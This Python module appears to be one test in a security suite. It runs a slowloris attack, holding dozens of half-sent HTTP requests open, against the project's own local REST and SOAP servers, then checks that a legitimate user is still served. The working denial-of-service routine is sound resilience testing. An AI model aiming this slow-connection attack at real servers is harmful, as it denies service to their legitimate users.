"""Slowloris: many connections to the REST and SOAP servers, each sending half a request, slowly."""
import socket
import sys
import time

import requests

from .common import PROTOCOLS, load, run_one, say, title, verdict

HELD = 64                # slow connections per server
ANSWER_SECONDS = 2       # what a valid call may take while they are held
HEAD = b"GET /v1/me HTTP/1.1\r\nHost: 127.0.0.1\r\n"


def run(targets, args):
    title("slowloris", f"""
        Mallory opens {HELD} connections to each HTTP server and sends each the first line of a
        request and a header, then another header every second, never the blank line that ends
        the request. A server that gives each connection one of its few threads until its
        request is complete soon has none left, and nobody is served. No credential needed.""")
    servers = targets.listeners()[:2]   # REST's and SOAP's: the HTTP/1.1 servers
    slow = [open_slowly(server) for server in servers for _ in range(HELD)]
    say(f"{len(slow)} slow connections open, {HELD} on each of {', '.join(f'{h}:{p}' for h, p in servers)}")
    alice = ("key", load("alice")["api_key"])
    started = time.monotonic()
    answered, slowest = [], 0.0
    for protocol in PROTOCOLS:
        drip(slow)
        sent = time.monotonic()
        try:
            answered.append(targets.call(protocol, "who_am_i", alice).kind)
        except requests.Timeout:
            say(f"{protocol}: no answer in time")
            answered.append("no answer")
        slowest = max(slowest, time.monotonic() - sent)
    while time.monotonic() - started < 15 and not all(map(closed, slow)):
        drip(slow)
        time.sleep(1)
    hung_up = sum(map(closed, slow))
    for sock in slow:
        sock.close()
    say()
    say(f"alice's calls meanwhile: {answered.count('ok')} of {len(answered)} answered, the slowest in {slowest:.2f} s")
    say(f"the servers hung up on {hung_up} of {len(slow)} slow connections within {time.monotonic() - started:.0f} s")
    stopped = answered.count("ok") == len(answered) and slowest < ANSWER_SECONDS
    return verdict(stopped, "connections on greenlets, with deadlines",
                   "each gunicorn worker holds a waiting connection on a greenlet (a few KB), not on one of a "
                   "few threads, and hangs up on a request whose head takes over 5 s (a TLS handshake too): "
                   "slow clients cost almost nothing and are gone soon")


def open_slowly(server: tuple[str, int]) -> socket.socket:
    sock = socket.create_connection(server, timeout=5)
    sock.sendall(HEAD)
    return sock


def drip(slow: list) -> None:
    """One more header line on each connection."""
    for sock in slow:
        try:
            sock.sendall(b"X-Drip: 1\r\n")
        except OSError:
            pass   # the server hung up


def closed(sock: socket.socket) -> bool:
    """Whether the server has hung up on this connection (looked at without waiting)."""
    sock.setblocking(False)
    try:
        return sock.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        sock.setblocking(True)


if __name__ == "__main__":
    sys.exit(run_one(sys.modules[__name__]))
